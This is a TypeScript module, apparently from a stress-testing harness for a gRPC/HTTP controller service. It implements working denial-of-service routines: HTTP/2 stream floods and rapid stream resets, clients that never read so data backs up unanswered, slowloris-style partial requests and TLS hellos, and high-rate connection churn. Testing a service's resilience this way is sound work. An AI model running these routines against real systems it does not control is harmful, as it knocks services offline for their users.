/** Too many of them, too slow, or deaf. */
import net from 'node:net';
import http2 from 'node:http2';
import { atRate, type Attack, type Tally, type Target } from './attack.js';
import { eventOf, helloOf, openCall, openSession } from './raw-grpc.js';
import { requestBytes } from './raw-http.js';

const STREAMS = 1_000;
/** Connections that this process opens in a second, at most. */
const CONNECTS_PER_SECOND = 1_000;
const SLOW_CONNECTIONS = 500;
const DRIP_MS = 1_000;
const DEAF = 10;

/** Many streams on one connection; one connection for each of many streams; streams that are reset as soon as they are open. */
export const manyStreams: Attack = (target, tally) => {
  const hello = helloOf(target);
  (function onOne(): void {
    const session = openSession(target.grpc);
    session.on('close', () => setImmediate(onOne));
    for (let count = 0; count < STREAMS; count += 1) {
      const call = openCall(session, 'on one connection', tally, { token: target.session });
      call.write(hello);
    }
    // All of them have had their say.
    setTimeout(() => session.destroy(), 1_000);
  })();
  let open = 0;
  atRate(CONNECTS_PER_SECOND, () => {
    if (open >= STREAMS) return;
    open += 1;
    const session = openSession(target.grpc);
    session.on('close', () => (open -= 1));
    const call = openCall(session, 'each on its own', tally, { token: target.session });
    call.on('close', () => session.destroy());
    call.write(hello);
  });
  let resetting = openSession(target.grpc);
  atRate(5_000, () => {
    if (resetting.destroyed || resetting.closed) resetting = openSession(target.grpc);
    else openCall(resetting, 'reset', tally, { token: target.session }).close(http2.constants.NGHTTP2_CANCEL);
  });
};

/** Streams without room for any answer, to which more and more is owed; requests whose answers stay in the socket. */
export const neverReading: Attack = (target, tally) => {
  for (let count = 0; count < DEAF; count += 1) {
    deafStream(target, tally);
    deafRequests(target, tally);
  }
};

function deafStream(target: Target, tally: Tally): void {
  const session = openSession(target.grpc, { initialWindowSize: 0 });
  const call = openCall(session, 'stream', tally, { token: target.session, unread: true });
  call.write(helloOf(target));
  let sequence = 0;
  let isOver = false;
  const pump = (): void => {
    while (!isOver && !call.destroyed) {
      sequence += 1;
      tally.add('stream: events');
      if (!call.write(eventOf(target, sequence))) return;
    }
  };
  call.on('drain', pump);
  pump();
  const again = (): void => {
    if (isOver) return;
    isOver = true;
    session.destroy();
    setImmediate(() => deafStream(target, tally));
  };
  call.on('close', again);
  session.on('close', again);
}

function deafRequests(target: Target, tally: Tally): void {
  const socket = net.connect(target.http.port, target.http.host);
  const bytes = Buffer.concat(Array.from({ length: 100 }, () => requestBytes('GET', '/api/v1/openapi.json')));
  const pump = (): void => {
    do tally.add('HTTP: requests', 100);
    while (!socket.destroyed && socket.write(bytes));
  };
  socket.pause();
  socket.on('connect', pump);
  socket.on('drain', pump);
  socket.on('error', () => undefined); // it closes
  socket.on('close', () => {
    tally.add('HTTP: cut');
    deafRequests(target, tally);
  });
}

/** Half a request, half a preface, half a TLS hello, nothing at all: a byte now and then. */
export const slowLoris: Attack = (target, tally) => {
  const says = {
    http: ['GET /healthz HTTP/1.1\r\nhost: controller\r\nx-slow: ', '', '\x16\x03\x01\x02\x00\x01'],
    grpc: ['PRI * HTTP/2.0\r\n\r', '', '\x16\x03\x01\x02\x00\x01', PREFACE],
  };
  const drip = (port: 'http' | 'grpc', text: string): void => {
    const socket = net.connect(target[port].port, target[port].host);
    let timer: NodeJS.Timeout | undefined;
    socket.on('connect', () => {
      tally.add(`${port}: connections`);
      socket.write(Buffer.from(text, 'latin1'));
      // A byte more would end some of these: they say nothing more.
      if (text.startsWith('GET')) timer = setInterval(() => socket.write('x'), DRIP_MS);
    });
    socket.on('data', (chunk: Buffer) => {
      const status = /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1', 0, 20))?.[1];
      if (status !== undefined) tally.add(`${port}: ${status}`);
    });
    socket.on('error', () => undefined); // it closes
    socket.on('close', () => {
      clearInterval(timer);
      tally.add(`${port}: cut`);
      setTimeout(() => drip(port, text), 100);
    });
  };
  let count = 0;
  atRate(CONNECTS_PER_SECOND, () => {
    if (count >= 2 * SLOW_CONNECTIONS) return;
    const port = count % 2 === 0 ? 'http' : 'grpc';
    drip(port, says[port][(count >> 1) % says[port].length] ?? '');
    count += 1;
  });
};

/** A whole preface with empty settings (RFC 9113, 3.4), and then nothing. */
const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00';

export const reconnects: Attack = (target, tally) => {
  const hello = helloOf(target);
  let open = 0;
  atRate(CONNECTS_PER_SECOND, () => {
    if (open >= 50) return;
    open += 1;
    const session = openSession(target.grpc);
    session.on('close', () => (open -= 1));
    const call = openCall(session, 'streams', tally, { token: target.session });
    call.on('data', () => session.destroy());
    call.on('close', () => session.destroy());
    call.write(hello);
  });
  // Connections that are closed as soon as they are there.
  atRate(CONNECTS_PER_SECOND, () => {
    for (const { port, host } of [target.http, target.grpc]) {
      const socket = net.connect(port, host, () => {
        tally.add('connections');
        socket.destroy();
      });
      socket.on('error', () => tally.add('connections refused'));
    }
  });
};
